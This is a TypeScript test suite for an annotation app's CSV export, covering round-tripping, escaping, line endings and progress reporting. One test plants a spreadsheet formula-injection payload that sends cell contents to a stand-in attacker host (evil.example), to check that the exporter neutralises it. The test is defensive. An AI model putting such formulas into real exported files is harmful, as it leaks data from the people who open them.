import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { isWithin, parentPath } from '../../shared/codebook.ts';
import { COLOR_LABELS } from '../../shared/colors.ts';
import {
  CSV_BASE_COLUMNS,
  csvExport,
  joinTagCell,
  splitTagCell,
  TAG_SEPARATOR,
} from '../../shared/export/csv.ts';
import { selectForExport } from '../../shared/export/selection.ts';
import {
  DEFAULT_EXPORT_OPTIONS,
  type ExportOptions,
  type ResolvedScope,
} from '../../shared/export/types.ts';
import type { StoreData } from '../../shared/model.ts';
import { exportFixture, GENERATED_AT } from '../fixtures/export/notebook.ts';
import { expectGolden } from './golden.ts';

const options: ExportOptions = { ...DEFAULT_EXPORT_OPTIONS, csvBom: true };

function exportCsv(
  scope: ResolvedScope,
  data: StoreData = exportFixture(),
  opts: ExportOptions = options,
): string {
  return [...csvExport(selectForExport(data, scope, GENERATED_AT), opts)].join('');
}

function readBack(csv: string): Record<string, string>[] {
  return parse(csv, { bom: true, columns: true });
}

describe('CSV export', () => {
  it('matches the golden files', () => {
    expectGolden('notebook.csv', exportCsv({ kind: 'notebook' }));
    expectGolden('doc-field.csv', exportCsv({ kind: 'document', documentId: 'doc-field' }));
    expectGolden('tag-defiance.csv', exportCsv({ kind: 'tag', tagId: 'tag-defiance' }));
  });

  it('has the documented header: base columns, then one column per top-level tag', () => {
    const csv = exportCsv({ kind: 'notebook' });
    const header = csv.slice(1, csv.indexOf('\r\n')).split(',');
    expect(header).toEqual([...CSV_BASE_COLUMNS, 'tag:actors', 'tag:language', 'tag:stance']);
  });

  it('reads back with a real CSV parser, field by field equal to the notebook', () => {
    const data = exportFixture();
    const rows = readBack(exportCsv({ kind: 'notebook' }, data));
    const tagName = new Map(data.tags.map((t) => [t.id, t.name]));
    const topLevel = data.tags.filter((t) => parentPath(t.name) === null);
    expect(rows.map((r) => r.quote_id)).toEqual([
      'q-mujahid',
      'q-fitrat',
      'q-trump-talks',
      'q-dari',
      'q-emoji',
    ]);
    for (const row of rows) {
      const a = data.annotations.find((x) => x.id === row.quote_id)!;
      const doc = data.documents.find((d) => d.id === a.documentId)!;
      const names = a.tagIds.map((id) => tagName.get(id)!);
      expect(row).toEqual({
        quote_id: a.id,
        document_id: doc.id,
        document_title: doc.title,
        quote: a.target.quote!.exact,
        tags: row.tags,
        comment: a.comment,
        color: a.color,
        color_name: COLOR_LABELS[a.color],
        start: String(a.target.position!.start),
        end: String(a.target.position!.end),
        page: '',
        created: a.createdAt,
        updated: a.updatedAt,
        unplaced: '0',
        ...Object.fromEntries(
          topLevel.map((t) => [
            `tag:${t.name}`,
            names.some((n) => isWithin(n, t.name)) ? '1' : '0',
          ]),
        ),
      });
      expect(splitTagCell(row.tags!)).toEqual([...names].sort((x, y) => x.localeCompare(y)));
      // The offsets index the canonical text.
      expect(doc.text.slice(Number(row.start), Number(row.end))).toBe(row.quote);
    }
    // The awkward text really is in there: commas, quotes, line breaks, emoji, right to left.
    const comments = rows.map((r) => r.comment).join('');
    for (const s of [',', '"', '\n', '🇺🇸', '«', 'right-to-left']) expect(comments).toContain(s);
    expect(rows.map((r) => r.quote).join('')).toContain('کابل زیبا است');
    expect(rows.find((r) => r.quote_id === 'q-trump-talks')!.quote).toContain('\n');
  });

  it('ends records in CRLF and keeps a line break inside a field as stored', () => {
    const csv = exportCsv({ kind: 'notebook' });
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain(
      '"Repeats the ""even an inch"" line.\nSecond line: attributed via local media, not direct."',
    );
    expect(csv).not.toContain('\r\nSecond line');
  });

  it('marks unplaced quotes and quotes a lone carriage return or line break', () => {
    const data = exportFixture();
    const a = data.annotations[0]!;
    a.orphan = true;
    a.comment = 'line\rbreak\nand =SUM(A1) , "x"';
    const [row] = readBack(exportCsv({ kind: 'document', documentId: 'doc-bagram' }, data));
    expect(row!.unplaced).toBe('1');
    expect(row!.comment).toBe(a.comment);
  });

  it('starts with a byte order mark only when asked', () => {
    const withBom = exportCsv({ kind: 'notebook' });
    const without = exportCsv({ kind: 'notebook' }, exportFixture(), {
      ...options,
      csvBom: false,
    });
    expect(withBom.startsWith('\uFEFFquote_id,')).toBe(true);
    expect(without.startsWith('quote_id,')).toBe(true);
    expect(withBom.slice(1)).toBe(without);
    expect(readBack(without)).toEqual(readBack(withBom));
  });

  it('keeps spreadsheets from running a quote as a formula, unless asked for cells as stored', () => {
    const data = exportFixture();
    data.annotations[0]!.target.quote!.exact = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    data.annotations[1]!.comment = '-20 years, he said';
    const safe = readBack(exportCsv({ kind: 'notebook' }, data));
    expect(safe[0]!.quote).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(safe[1]!.comment).toBe(`'-20 years, he said`);
    expect(safe[2]!.quote).toBe(data.annotations[2]!.target.quote!.exact);
    const raw = readBack(
      exportCsv({ kind: 'notebook' }, data, { ...options, csvEscapeFormulas: false }),
    );
    expect(raw[0]!.quote).toBe(data.annotations[0]!.target.quote!.exact);
    expect(raw[1]!.comment).toBe('-20 years, he said');
  });

  it('round-trips tag names holding the separator and the escape', () => {
    const data = exportFixture();
    const odd = [
      { id: 'tag-odd', name: 'a;b\\c; d', color: 'yellow' as const },
      { id: 'tag-odd2', name: 'a;b\\c; d/\\;', color: 'blue' as const },
      { id: 'tag-trail', name: 'ends\\', color: 'green' as const },
    ];
    for (const t of odd)
      data.tags.push({ ...t, description: '', createdAt: '2026-11-20T09:00:00.000Z' });
    data.annotations[0]!.tagIds.push('tag-odd2', 'tag-trail');
    const rows = readBack(exportCsv({ kind: 'notebook' }, data));
    const row = rows.find((r) => r.quote_id === data.annotations[0]!.id)!;
    expect(splitTagCell(row.tags!)).toEqual([
      'a;b\\c; d/\\;',
      'actors/afghan',
      'ends\\',
      'stance/defiance',
    ]);
    expect(row['tag:a;b\\c; d']).toBe('1');
    expect(row['tag:ends\\']).toBe('1');
    expect(rows.find((r) => r.quote_id === 'q-emoji')!['tag:a;b\\c; d']).toBe('0');
  });

  it('joins and splits tag cells as inverses', () => {
    const cases = [
      [],
      ['a'],
      ['actors/afghan', 'stance/defiance'],
      [';', '\\', '\\;', '; ', ' x', 'x ', 'a\\', '\\\\;;'],
    ];
    for (const names of cases) expect(splitTagCell(joinTagCell(names))).toEqual(names);
    expect(joinTagCell(['a;b', 'c\\d'])).toBe(`a\\;b${TAG_SEPARATOR}c\\\\d`);
  });

  it('keeps the tag-cell helpers free of imports, so the renderer can load them', () => {
    // csv-stringify reads Node's Buffer as it loads; the browser renderer must not pull it in.
    const source = readFileSync(resolve('shared/export/tag-cell.ts'), 'utf8');
    expect(source).not.toMatch(/^\s*(?:import|export .* from)\b/m);
  });

  it('writes only the header for an empty scope', () => {
    const data = exportFixture();
    data.annotations = [];
    const csv = exportCsv({ kind: 'notebook' }, data);
    expect(csv.split('\r\n')).toHaveLength(2);
    expect(readBack(csv)).toEqual([]);
  });

  it('reports progress in rows, ending at the total', () => {
    const calls: [number, number][] = [];
    const selection = selectForExport(exportFixture(), { kind: 'notebook' }, GENERATED_AT);
    const pieces = [...csvExport(selection, options, (done, total) => calls.push([done, total]))];
    expect(pieces.length).toBeGreaterThan(1);
    expect(calls.length).toBeGreaterThan(0);
    expect(calls.at(-1)).toEqual([5, 5]);

    const many = exportFixture();
    const first = many.annotations[0]!;
    for (let i = 0; i < 250; i++) many.annotations.push({ ...first, id: `q-many-${i}` });
    const more: [number, number][] = [];
    const streamed = [
      ...csvExport(selectForExport(many, { kind: 'notebook' }, GENERATED_AT), options, (d, t) =>
        more.push([d, t]),
      ),
    ];
    expect(streamed.length).toBe(4);
    expect(more).toEqual([
      [100, 255],
      [200, 255],
      [255, 255],
    ]);
    expect(readBack(streamed.join(''))).toHaveLength(255);
  });
});
